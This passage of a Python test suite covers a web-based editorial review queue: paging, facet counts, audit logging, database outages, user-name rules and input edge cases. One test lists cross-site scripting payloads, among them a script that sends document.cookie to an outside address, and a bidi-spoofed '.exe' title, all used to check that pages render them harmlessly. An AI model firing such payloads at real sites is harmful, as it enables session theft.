        "reason": "duplicate",
        "item": values[2:],
    }
    assert alice.post("/queue/bulk", data=form).status_code == 200
    with Session() as s:
        statuses = sorted(s.scalars(select(Item.status)))
        assert statuses == ["approved", "approved", "rejected"]
        assert s.scalar(select(func.count()).select_from(ReviewDecision)) == 3


# --- queue ----------------------------------------------------------------------------------------


@pytest.fixture
def many(Session):
    """40 items across languages, sources, types; two funding calls with near deadlines."""
    with Session() as s:
        add_source(s, "src-a")
        add_source(s, "src-b")
        for n in range(1, 41):
            add_item(
                s,
                n,
                language=("en", "de", "fr", "it")[n % 4],
                source_id=("src-a", "src-b")[n % 2],
                relevance=(n * 37 % 100) / 100,
                content_type="funding" if n in (30, 31) else "news",
                deadline=NOW + timedelta(days=40 - n) if n in (30, 31) else None,
                country=("DE", "FR")[n % 2],
                themes={"Social Cohesion": 0.9} if n % 3 == 0 else {"Tools and Techniques": 0.6},
            )
        s.commit()


def test_queue_order_keyset_pages_and_deadline_lane(Session, many) -> None:
    filters = store.QueueFilters()
    with Session() as s:
        every, cursor = store.queue_page(s, filters, limit=200, now=NOW)
        assert cursor is None and len(every) == 40
        # the deadline lane: funding calls due within 21 days, nearest first
        assert [r["title"] for r in every[:2]] == ["Item 31", "Item 30"]
        assert [r["lane"] for r in every[:3]] == [0, 0, 1]
        rest = every[2:]
        keys = [
            r["relevance"] + (r["published_at"] - datetime(2000, 1, 1, tzinfo=UTC)).total_seconds() / 5184000
            for r in rest
        ]
        assert keys == sorted(keys, reverse=True)
        pages, cursor, seen = 0, None, []
        while True:
            rows, cursor = store.queue_page(s, filters, after=cursor, limit=7, now=NOW)
            seen += [r["id"] for r in rows]
            pages += 1
            if cursor is None:
                break
    assert pages == 6 and seen == [r["id"] for r in every]


def test_queue_filters_and_counts(Session, many) -> None:
    with Session() as s:
        filters = store.QueueFilters.from_query(
            {"language": "de fr", "source": ["src-b"], "relevance_min": "0.3", "theme": ["Social Cohesion"]}
        )
        rows, _ = store.queue_page(s, filters, limit=200, now=NOW)
        expected = [
            n
            for n in range(1, 41)
            if n % 4 in (1, 2) and n % 2 == 1 and (n * 37 % 100) / 100 >= 0.3 and n % 3 == 0
        ]
        assert sorted(int(r["title"].split()[1]) for r in rows) == sorted(expected)
        counts = store.queue_counts(s, store.QueueFilters.from_query({"language": ["de"]}))
        assert counts["total"] == {"": 10}
        assert counts["language"] == {"en": 10, "de": 10, "fr": 10, "it": 10}  # own facet not applied
        assert counts["source"] == {"src-b": 10}  # German items are n % 4 == 1, all odd: src-b
        dated = store.QueueFilters.from_query({"date_from": "2026-11-10", "date_to": "2026-11-15"})
        titles = {r["title"] for r in store.queue_page(s, dated, limit=200, now=NOW)[0]}
        assert titles == {f"Item {n}" for n in range(5, 11)}


def test_counts_are_capped(Session, many) -> None:
    with Session() as s:
        # 40 pending items: over a cap of 15 for the total, status, language, country, source, theme
        counts = store.queue_counts(s, store.QueueFilters(), cap=15)
        assert counts["total"] == {"": 16}
        assert counts["capped"] == {
            f: 15 for f in ("status", "language", "content_type", "country", "source", "theme", "total")
        }
        assert counts["language"] == {} and counts["status"] == {}
        # German items (10): exact counts for every facet that keeps the language filter
        german = store.QueueFilters.from_query({"language": ["de"]})
        counts = store.queue_counts(s, german, cap=15)
        assert counts["total"] == {"": 10}
        assert counts["capped"] == {"language": 15}  # its own facet drops the filter: 40 items
        assert counts["source"] == {"src-b": 10} and counts["status"] == {"pending": 10}
        assert counts == {**store.queue_counts(s, german), "language": {}, "capped": {"language": 15}}
        # exactly at the cap is not capped
        assert store.queue_counts(s, german, cap=10)["total"] == {"": 10}
        assert "total" not in store.queue_counts(s, german, cap=10)["capped"]


@SQLITE_ONLY
def test_counts_fragment_shows_capped_counts(app, Session, many) -> None:
    import dataclasses

    app.state.settings = dataclasses.replace(app.state.settings, count_cap=15)
    alice = editor_client(app, Session)
    page = alice.get("/queue/counts")
    assert page.status_code == 200
    assert "<p>15+ items match.</p>" in page.text
    assert "Over 15 items: narrow the other filters to count per language." in page.text
    assert '<span class="facet-value">de</span>' not in page.text
    page = alice.get("/queue/counts?language=de")
    assert "<p>10 items match.</p>" in page.text
    assert '<span class="facet-value">src-b</span> <span class="n">10</span>' in page.text
    assert "count per language" in page.text and "count per source" not in page.text


@SQLITE_ONLY
def test_saved_views(app, Session, many) -> None:
    alice = editor_client(app, Session)
    csrf = csrf_of(alice)
    r = alice.post(
        "/views",
        data={"csrf_token": csrf, "name": "my languages", "language": "de fr"},
        follow_redirects=False,
    )
    assert r.status_code == 303
    with Session() as s:
        views = store.saved_views(s, 1)
    assert views[0]["name"] == "my languages" and views[0]["query"]["language"] == ["de", "fr"]
    page = alice.get("/queue")
    assert "my languages" in page.text and "language=de&amp;language=fr" in page.text


@SQLITE_ONLY
def test_sources_page_shows_yield(app, Session, seeded) -> None:
    with Session() as s:
        s.execute(update(Item).where(Item.id == seeded[0]).values(status="approved"))
        s.execute(update(Item).where(Item.id == seeded[1]).values(status="rejected"))
        s.commit()
        rows = {r["id"]: r for r in store.source_yield(s)}
    assert rows["src-a"]["yield"] == 0.5 and rows["src-a"]["items_total"] == 2
    assert rows["src-b"]["yield"] is None and rows["src-b"]["items_pending"] == 1
    page = editor_client(app, Session).get("/sources")
    assert page.status_code == 200 and "50%" in page.text and "Ministry A" in page.text


# --- T46 audit ------------------------------------------------------------------------------------


def test_audit_rows_for_each_action_without_secrets(app, Session, seeded, caplog) -> None:
    """ASVS 7.1.1: neither the password (also when typed into the user name field), the session
    cookie nor the CSRF token or cookie reach an audit row or a log line."""
    caplog.set_level(logging.DEBUG)
    log_in(client_for(app), "nobody", "wrong password 123")
    log_in(client_for(app), PASSWORD, PASSWORD)  # the password typed into the user name field
    alice = editor_client(app, Session)
    cookie = alice.cookies.get("__Host-ewsi_session")
    csrf = csrf_of(alice)
    csrf_cookie = alice.cookies.get(CSRF_COOKIE)
    assert cookie and csrf_cookie
    alice.post(f"/items/{seeded[0]}/claim", headers={"X-CSRF-Token": csrf, "Accept": "application/json"})
    alice.post(f"/items/{seeded[0]}/decide", data=decide_form(alice, seeded[0], "edit", editor_title="T"))
    alice.post(f"/items/{seeded[0]}/decide", data=decide_form(alice, seeded[0], "approve"))
    alice.post(f"/items/{seeded[1]}/decide", data=decide_form(alice, seeded[1], "reject", reason="duplicate"))
    alice.post("/logout", data={"csrf_token": csrf})
    with Session() as s:
        rows = s.scalars(select(AuditEntry).order_by(AuditEntry.id)).all()
        dump = repr([(r.actor, r.action, r.object_type, r.object_id, r.detail, r.address) for r in rows])
    actions = [r.action for r in rows]
    for action in ("user_add", "login_failed", "login", "claim", "edit", "approve", "reject", "logout"):
        assert action in actions
    assert [r.actor for r in rows if r.action == "login_failed"] == ["(unknown user)", "(unknown user)"]
    approve = next(r for r in rows if r.action == "approve")
    assert approve.object_id == str(seeded[0]) and approve.before_hash != approve.after_hash
    # the log is not empty: it names the logins and decisions
    assert "login of alice from 198.51.100.7" in caplog.text
    assert f'decision approve on item {seeded[0]} "T" by alice' in caplog.text
    assert "decision reject" in caplog.text and "(reason: duplicate)" in caplog.text
    for secret in (PASSWORD, cookie, csrf, csrf_cookie):
        assert secret not in dump
        assert secret not in caplog.text


def test_failed_decision_leaves_no_audit_row(Session, seeded) -> None:
    with Session() as s:
        store.claim_item(s, seeded[0], "bob")
        s.commit()
    with Session() as s:
        before = s.scalar(select(func.count()).select_from(AuditEntry))
        with pytest.raises(store.ReviewConflict):
            store.decide(s, seeded[0], "alice", "approve", revision=1, request_token="t1")
        s.rollback()
        assert s.scalar(select(func.count()).select_from(AuditEntry)) == before
        assert s.get(Item, seeded[0]).status == "pending"


def test_audit_failure_rolls_the_decision_back(Session, seeded, monkeypatch) -> None:
    def broken(*args, **kwargs):
        raise RuntimeError("audit insert failed")

    monkeypatch.setattr(store, "audit", broken)
    with Session() as s:
        with pytest.raises(RuntimeError):
            store.decide(s, seeded[0], "alice", "approve", revision=1, request_token="t2")
        s.rollback()
    with Session() as s:
        assert s.get(Item, seeded[0]).status == "pending"
        assert s.scalar(select(func.count()).select_from(ReviewDecision)) == 0


# --- T41 static check -----------------------------------------------------------------------------

PAYLOADS = {
    "title": "<script>fetch('http://127.0.0.3:9/x?c='+document.cookie)</script>",
    "title2": "<img src=x onerror=alert(1)>",
    "title3": '"]]></title><script>alert(1)</script>',
    "author": '"><svg onload=alert(1)>',
    "url": "javascript:alert(1)",
    "text": (
        '<a href="jav&#x09;ascript:alert(1)">x</a>'
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
        "<svg><script>alert(1)</script></svg><iframe srcdoc='<script>alert(1)</script>'></iframe>"
        "<form action='javascript:alert(1)'><base href='javascript:alert(1)//'>"
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>"
        '<p style="background:url(javascript:alert(1))">x</p>'
        "<a href='data:text/html,<script>alert(1)</script>'>d</a>"
    ),
}


def assert_inert(html: str, nonce: str) -> None:
    """No element, attribute or URL of the page can run script except our own nonce'd app.js."""
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    for el in tree.iter():
        tag = el.tag if isinstance(el.tag, str) else ""
        local = tag.split("}")[-1].lower()
        if local == "script":
            assert (
                el.get("src") == "/static/app.js" and el.get("nonce") == nonce and not (el.text or "").strip()
            )
        assert local not in ("iframe", "base", "object", "embed", "svg", "math", "style", "form") or (
            local == "form" and (el.get("action") or "").startswith("/")
        ), local
        if local == "meta":
            assert (el.get("http-equiv") or "").lower() != "refresh"
        for name, value in el.attrib.items():
            lname = name.lower()
            assert not lname.startswith("on"), (local, name)
            assert lname not in ("srcdoc", "style"), (local, name)
            v = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if lname in ("href", "src", "action", "formaction", "content", "xlink:href"):
                assert not v.startswith(("javascript:", "data:", "vbscript:")), (local, name, value)
                assert "javascript:" not in v or lname == "content", (local, name, value)


@SQLITE_ONLY
def test_hostile_fields_render_inert_everywhere(app, Session) -> None:
    with Session() as s:
        add_source(s, PAYLOADS["author"], PAYLOADS["author"], publisher=PAYLOADS["title"])
        ids = [
            add_item(
                s,
                n,
                source_id=PAYLOADS["author"],
                title=PAYLOADS[key],
                author=PAYLOADS["author"],
                url=PAYLOADS["url"],
                summary=PAYLOADS["text"],
                text=PAYLOADS["text"],
                language=PAYLOADS["title2"][:8],
                country="<b>",
                attachments=[{"url": "javascript:alert(1)", "title": PAYLOADS["title2"]}, "data:text/html,x"],
                evidence=[{"term": PAYLOADS["title2"], "weight": 1, "language": "<i>", "count": 1}],
            ).id
            for n, key in enumerate(("title", "title2", "title3"), start=1)
        ]
        s.commit()
    admin = editor_client(app, Session, "root", "admin")
    csrf = csrf_of(admin)
    admin.post(
        f"/items/{ids[0]}/decide", data=decide_form(admin, ids[0], "edit", editor_summary=PAYLOADS["text"])
    )
    hostile = admin.post(
        f"/items/{ids[1]}/decide", data=decide_form(admin, ids[1], "reject", reason=PAYLOADS["title"])
    )
    assert hostile.status_code == 400  # only the listed reasons (test_reject_reason_must_be_listed)
    admin.post(f"/items/{ids[1]}/decide", data=decide_form(admin, ids[1], "reject", reason="other"))
    bulk = admin.post(
        "/queue/bulk",
        data={"csrf_token": csrf, "action": "approve", "request_token": "d" * 32, "item": [f"{ids[2]}:1"]},
    )
    pages = [bulk]
    for path in (
        "/queue",
        "/queue?status=any",
        f"/queue?q={PAYLOADS['title2']}",
        "/queue/counts?status=any",
        f"/items/{ids[0]}",
        f"/items/{ids[1]}",
        f"/items/{ids[2]}",
        "/history",
        "/sources",
        "/admin/audit",
        "/admin/users",
        f"/items/{ids[0]}?msg={PAYLOADS['title']}",
    ):
        pages.append(admin.get(path))
    pages.append(client_for(app).get(f"/login?next={PAYLOADS['url']}"))
    for page in pages:
        assert page.status_code == 200, page.url
        csp = page.headers["content-security-policy"]
        nonce = re.search(r"'nonce-([A-Za-z0-9_-]+)'", csp).group(1)
        assert "default-src 'none'" in csp and page.headers["x-content-type-options"] == "nosniff"
        assert_inert(page.text, nonce)
    item_page = pages[5].text
    assert "&lt;script&gt;fetch(" in item_page  # shown as text, not dropped
    assert 'id="original-link-blocked"' in item_page


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://example.org/a", True),
        ("http://x.test", True),
        ("javascript:alert(1)", False),
        ("jav\tascript:alert(1)", False),
        (" JAVASCRIPT:alert(1)", False),
        ("data:text/html,x", False),
        ("//evil.test/x", False),
        ("https://", False),
        (None, False),
    ],
)
def test_safe_url(url, ok: bool) -> None:
    assert (safe_url(url) is not None) is ok


# --- T35 database outage (PostgreSQL through a proxy the test can cut) ----------------------------


class CuttableProxy:
    """A TCP forwarder from 127.0.0.1:<port> to the database; `cut()` refuses and drops connections."""

    def __init__(self, target: tuple[str, int]) -> None:
        self.target = target
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.up = True
        self.conns: list[socket.socket] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            if not self.up:
                client.close()
                continue
            upstream = socket.create_connection(self.target)
            self.conns += [client, upstream]
            for a, b in ((client, upstream), (upstream, client)):
                threading.Thread(target=self._pipe, args=(a, b), daemon=True).start()

    @staticmethod
    def _pipe(a: socket.socket, b: socket.socket) -> None:
        try:
            while data := a.recv(65536):
                b.sendall(data)
        except OSError:
            pass
        finally:
            for s in (a, b):
                with contextlib.suppress(OSError):
                    s.shutdown(socket.SHUT_RDWR)

    def cut(self) -> None:
        self.up = False
        for s in self.conns:
            try:
                s.shutdown(socket.SHUT_RDWR)
                s.close()
            except OSError:
                pass
        self.conns.clear()

    def restore(self) -> None:
        self.up = True

    def close(self) -> None:
        self.cut()
        self.listener.close()


@pytest.mark.postgres
@pytest.mark.parametrize("db_url", [pytest.param("postgresql", marks=pytest.mark.postgres)], indirect=True)
def test_t35_approve_during_outage_then_double_submit(db_url, engine, Session, seeded) -> None:
    from sqlalchemy.engine import make_url

    if not db_url.startswith("postgresql"):
        pytest.skip("T35 cuts a PostgreSQL connection")
    url = make_url(db_url)
    proxy = CuttableProxy((url.host or "127.0.0.1", url.port or 5432))
    try:
        app = create_app(url.set(host="127.0.0.1", port=proxy.port).render_as_string(hide_password=False))
        alice = editor_client(app, Session)
        form = decide_form(alice, seeded[0], "approve")
        proxy.cut()
        down = alice.post(f"/items/{seeded[0]}/decide", data=form, follow_redirects=False)
        assert down.status_code == 503 and down.headers["retry-after"] == "30"
        assert "Nothing was saved" in down.text
        with Session() as s:
            assert s.get(Item, seeded[0]).status == "pending"
        proxy.restore()
        results: list[int] = []
        threads = [
            threading.Thread(
                target=lambda: results.append(
                    alice.post(f"/items/{seeded[0]}/decide", data=form, follow_redirects=False).status_code
                )
            )
            for _ in range(2)
        ]
        for t in threads:
            t.start()
        for t in threads:
            t.join(30)
        assert sorted(results) == [303, 303]
        with Session() as s:
            assert s.scalar(select(func.count()).select_from(ReviewDecision)) == 1
            assert s.get(Item, seeded[0]).status == "approved"
    finally:
        proxy.close()


# --- ewsi users -----------------------------------------------------------------------------------


@SQLITE_ONLY
def test_users_cli_reads_stdin_and_refuses_duplicates(db_url, engine, Session, monkeypatch, capsys) -> None:
    from crawler.cli import main as ewsi
    from crawler.commands.users import read_password

    monkeypatch.setenv("EWSI_DATABASE_URL", db_url)
    monkeypatch.setattr("sys.stdin", io.StringIO("a long enough passphrase\n"))
    assert ewsi(["users", "add", "carol", "--role", "admin"]) == 0
    monkeypatch.setattr("sys.stdin", io.StringIO("a long enough passphrase\n"))
    assert ewsi(["users", "add", "carol", "--role", "editor"]) == 1
    monkeypatch.setattr("sys.stdin", io.StringIO("short\n"))
    assert ewsi(["users", "add", "dave", "--role", "editor"]) == 1
    with Session() as s:
        user = store.get_user_by_name(s, "carol")
        assert user.role == "admin" and user.password_hash.startswith("$argon2id$")
        assert HASHER.verify(user.password_hash, "a long enough passphrase")
    answers = iter(["first passphrase!", "other passphrase"])
    with pytest.raises(ValueError, match="differ"):
        read_password(stdin_is_tty=True, ask=lambda _prompt: next(answers))


@pytest.mark.parametrize(
    "name", ["ev\nil", "ev\til", " bob", "bob ", "a b", "", "x" * 65, "bö", "b\u202eob", "eve\x00", "éva"]
)
def test_users_cli_refuses_bad_names(db_url, engine, Session, monkeypatch, capsys, name: str) -> None:
    """User names follow store.USER_NAME_RULE: refused with exit 2 before the password is read."""
    from crawler.cli import main as ewsi

    monkeypatch.setenv("EWSI_DATABASE_URL", db_url)
    stdin = io.StringIO("a long enough passphrase\n")
    monkeypatch.setattr("sys.stdin", stdin)
    assert ewsi(["users", "add", name, "--role", "editor"]) == 2
    err = capsys.readouterr().err
    assert "a user name has 1 to 64 characters: letters A-Z and a-z, digits and . _ - @" in err
    assert err.count("\n") == 1 and "\u202e" not in err  # the name is shown escaped, on one line
    assert stdin.tell() == 0  # no password was asked for
    with Session() as s:
        assert store.list_users(s) == []
        with pytest.raises(ValueError, match="1 to 64 characters"):
            store.create_user(s, name, "editor", "$argon2id$not-used")


def test_users_cli_accepts_names_of_the_rule(db_url, engine, Session, monkeypatch) -> None:
    from crawler.cli import main as ewsi

    monkeypatch.setenv("EWSI_DATABASE_URL", db_url)
    for name in ("ev.il-1@example.org", "A_b", "x" * 64, "7"):
        monkeypatch.setattr("sys.stdin", io.StringIO("a long enough passphrase\n"))
        assert ewsi(["users", "add", name, "--role", "editor"]) == 0, name
    with Session() as s:
        assert sorted(u.name for u in store.list_users(s)) == sorted(
            ["ev.il-1@example.org", "A_b", "x" * 64, "7"]
        )
    for bad in ("-bob", ".bob", "@bob"):  # must start with a letter or digit
        with pytest.raises(ValueError):
            store.check_user_name(bad)


# --- request edges: huge numbers, control characters, reasons, dates, bidi --------------------------

BIG = "99999999999999999999999"
TOP = str(2**63 - 1)
"""The largest id a request may name (signed 64-bit); one more is refused at the edge."""


def test_huge_ids_and_revisions_are_refused_not_500(app, Session, seeded) -> None:
    """Every desk route that takes an integer from the request bounds it to 1..2**63-1: beyond, 400
    (SQLite used to raise OverflowError, a 500); at the top of the range, 404 as for any unknown id."""
    admin = editor_client(app, Session, "root", "admin")
    csrf = csrf_of(admin)
    gets = [
        (f"/items/{BIG}", 400),
        (f"/items/{2**63}", 400),
        ("/items/0", 400),
        (f"/items/{TOP}", 404),
        (f"/queue?after=1~1~{BIG}", 400),
        (f"/queue?after=0~2026-11-20T12:00:00Z~{BIG}", 400),
        ("/queue?after=1~1e999~5", 400),
        ("/queue?after=1~nan~5", 400),
        ("/queue?after=0~not-a-date~5", 400),
        ("/queue?after=garbage", 400),
        (f"/queue?after=1~0.5~{TOP}", 200),
        (f"/history?item={BIG}", 400),
        (f"/history?item={TOP}", 200),
        (f"/admin/audit?before={BIG}", 400),
        (f"/admin/audit?before={TOP}", 200),
    ]
    for path, status in gets:
        assert admin.get(path).status_code == status, path
    item = seeded[0]
    posts = [
        (f"/items/{BIG}/claim", {}, 400),
        (f"/items/{TOP}/claim", {}, 404),
        (f"/items/{BIG}/release", {}, 400),
        (f"/items/{item}/decide", {"action": "approve", "revision": BIG, "request_token": "e" * 32}, 400),
        (f"/items/{item}/decide", {"action": "approve", "revision": "-1", "request_token": "e" * 32}, 400),
        (f"/items/{BIG}/decide", {"action": "approve", "revision": "1"}, 400),
        (f"/items/{TOP}/decide", {"action": "approve", "revision": "1"}, 404),
        (f"/items/{TOP}/decide", {"action": "edit", "revision": "1", "editor_title": "x"}, 404),
        ("/queue/bulk", {"action": "approve", "item": [f"{BIG}:1"], "request_token": "f" * 32}, 400),
        ("/queue/bulk", {"action": "approve", "item": [f"{item}:{BIG}"], "request_token": "f" * 32}, 400),
        ("/queue/bulk", {"action": "approve", "item": [f"{item}:1", "x:1"], "request_token": "f" * 32}, 400),
        (f"/views/{BIG}/delete", {}, 400),
        (f"/views/{TOP}/delete", {}, 404),
        (f"/admin/users/{BIG}/role", {"role": "admin"}, 400),
        (f"/admin/users/{TOP}/role", {"role": "admin"}, 404),
    ]
    for path, data, status in posts:
        r = admin.post(path, data={"csrf_token": csrf, **data}, follow_redirects=False)
        assert r.status_code == status, (path, data, r.text[-300:])
    with Session() as s:
        assert s.scalar(select(func.count()).select_from(ReviewDecision)) == 0
        assert set(s.execute(select(Item.status, Item.revision))) == {("pending", 1)}
        assert s.scalar(select(User.role).where(User.name == "root")) == "admin"


def test_control_characters_in_desk_filters_are_refused(app, Session, seeded) -> None:
    """A NUL or other control character in a filter, a view's name or a source id is a 400/404,
    never a 500 (PostgreSQL refuses NUL in a query) nor a silently dropped filter."""
    admin = editor_client(app, Session, "root", "admin")
    csrf = csrf_of(admin)
    for path in (
        "/queue?country=%00",
        "/queue?q=%00",
        "/queue?q=a%0Ab",
        "/queue/counts?source=%1b",
        "/queue?la%00=x",
    ):
        r = admin.get(path)
        assert r.status_code == 400 and "must not contain control characters" in r.text, path
    r = admin.post("/queue/next?country=%00", data={"csrf_token": csrf}, follow_redirects=False)
    assert r.status_code == 400
    r = admin.post("/views", data={"csrf_token": csrf, "name": "mine\x00", "language": "de"})
    assert r.status_code == 400
    r = admin.post("/admin/sources/src-a%00", data={"csrf_token": csrf, "enabled": "false"})
    assert r.status_code == 404
    with Session() as s:
        assert s.get(SourceRow, "src-a").enabled is True
        assert store.saved_views(s, 2) == [] and s.scalar(select(func.count()).select_from(Item)) == 3
    assert admin.get("/queue?country=de&q=Item").status_code == 200


def test_reject_reason_must_be_listed(app, Session, seeded) -> None:
    """Only the reject select's values are accepted; anything else is a 400 and nothing is stored."""
    alice = editor_client(app, Session)
    page = alice.get(f"/items/{seeded[0]}")
    select_html = re.search(r'<select name="reason" id="reason">(.*?)</select>', page.text, re.S).group(1)
    offered = [v for v in re.findall(r"<option>([^<]*)</option>", select_html)]
    assert tuple(offered) == store.REJECT_REASONS
    for reason in ("x" * 100_000, "Not relevant", "other: spam", "other\x00", "duplicate, spam"):
        r = alice.post(
            f"/items/{seeded[0]}/decide", data=decide_form(alice, seeded[0], "reject", reason=reason)
        )
        assert r.status_code == 400 and "unknown rejection reason: choose one of not relevant" in r.text
        assert "x" * 600 not in r.text
    csrf = csrf_of(alice)
    form = {"csrf_token": csrf, "request_token": "g" * 32, "action": "reject", "reason": "x" * 100_000}
    form["item"] = [f"{seeded[1]}:1", f"{seeded[2]}:1"]
    r = alice.post("/queue/bulk", data=form)
    assert r.status_code == 400 and "unknown rejection reason" in r.text
    with Session() as s:
        assert s.scalar(select(func.count()).select_from(ReviewDecision)) == 0
        assert s.scalar(select(func.count()).select_from(Tombstone)) == 0
        assert set(s.scalars(select(Item.status))) == {"pending"}
        assert (
            s.scalar(select(func.count()).select_from(AuditEntry).where(AuditEntry.action == "reject")) == 0
        )
    ok = decide_form(alice, seeded[0], "reject", reason=" poor quality ")
    assert alice.post(f"/items/{seeded[0]}/decide", data=ok, follow_redirects=False).status_code == 303
    approve = decide_form(alice, seeded[1], "approve", reason="x" * 100_000)  # ignored: not a rejection
    assert alice.post(f"/items/{seeded[1]}/decide", data=approve, follow_redirects=False).status_code == 303
    with Session() as s:
        assert dict(s.execute(select(ReviewDecision.action, ReviewDecision.reason)).all()) == {
            "reject": "poor quality",
            "approve": None,
        }


def test_queue_marks_first_seen_dates_as_such(app, Session) -> None:
    """The Published column shows a publication date plainly and, for an item without one, its
    first-seen date marked (muted, "seen", a title), as the item page shows "Published —"."""
    with Session() as s:
        add_source(s, "src-a")
        dated = add_item(s, 1).id
        undated = add_item(s, 2, published_at=None).id
        s.commit()
    alice = editor_client(app, Session)
    tree = html5lib.parse(alice.get("/queue").text, namespaceHTMLElements=False)
    header = [th.text for th in tree.iter("th")]
    rows = {tr.get("data-href"): tr.findall("td") for tr in tree.iter("tr") if tr.get("data-href")}
    column = header.index("Published")
    plain = rows[f"/items/{dated}"][column]
    assert plain.text == "2026-11-19" and list(plain) == []
    marked = rows[f"/items/{undated}"][column]
    (span,) = list(marked)
    assert (marked.text or "") == "" and span.tag == "span" and span.text == "seen 2026-11-18"
    assert span.get("title") == "first seen; no publication date" and "muted" in span.get("class")
    item_page = alice.get(f"/items/{undated}").text
    assert "<dt>Published</dt><dd>—" in item_page


BIDI_TITLE = "Invoice \u202egnp.exe \u2066x\u200f"


def test_titles_render_inside_bidi_isolates(app, Session) -> None:
    """A right-to-left override in a harvested title or author cannot reorder the page around it:
    every text holding a bidi control sits in a <bdi> (or an element with dir), and the page's
    <title> holds none."""
    with Session() as s:
        add_source(s, "src-a")
        item = add_item(s, 1, title=BIDI_TITLE, author="\u202eRLO author").id
        s.commit()
    alice = editor_client(app, Session)
    assert alice.post(f"/items/{item}/decide", data=decide_form(alice, item, "defer"), follow_redirects=False)
    controls = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069]")
    for path in ("/queue?status=any", f"/items/{item}", "/history"):
        tree = html5lib.parse(alice.get(path).text, namespaceHTMLElements=False)
        parents = {child: parent for parent in tree.iter() for child in parent}
        found = 0
        for el in tree.iter():
            if el.tag == "title":
                assert not controls.search(el.text or ""), path
                continue
            if controls.search(el.text or ""):
                found += 1
                assert el.tag == "bdi" or el.get("dir") == "auto", (path, el.tag, el.text)
            if controls.search(el.tail or ""):
                found += 1
                parent = parents[el]
                assert parent.tag == "bdi" or parent.get("dir") == "auto", (path, parent.tag, el.tail)
        assert found >= 1, path
        assert any(el.tag == "bdi" and el.text == BIDI_TITLE for el in tree.iter()), path


@SQLITE_ONLY
def test_serve_reads_client_addresses_from_named_proxies_only(db_url, engine, monkeypatch) -> None:
    """Behind a reverse proxy the per-address login limit needs each client's own address:
    ``--forwarded-allow-ips`` turns on uvicorn's proxy headers for those proxies only."""
    import uvicorn

    from crawler.cli import main as ewsi

    calls: list[dict] = []
    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: calls.append(kw))
    assert ewsi(["serve", "--database-url", db_url]) == 0
    assert ewsi(["serve", "--database-url", db_url, "--forwarded-allow-ips", "10.0.0.5,10.0.0.6"]) == 0
    assert [(c["proxy_headers"], c["forwarded_allow_ips"]) for c in calls] == [
        (False, None),
        (True, "10.0.0.5,10.0.0.6"),
    ]


@pytest.mark.parametrize("port", ["99999", "0", "http"])
def test_serve_refuses_a_bad_port_before_starting(port, capsys) -> None:
    from crawler.cli import main as ewsi

    with pytest.raises(SystemExit) as exit_info:
        ewsi(["serve", "--port", port])
    assert exit_info.value.code == 2
    err = capsys.readouterr().err
    assert "--port" in err and "Traceback" not in err
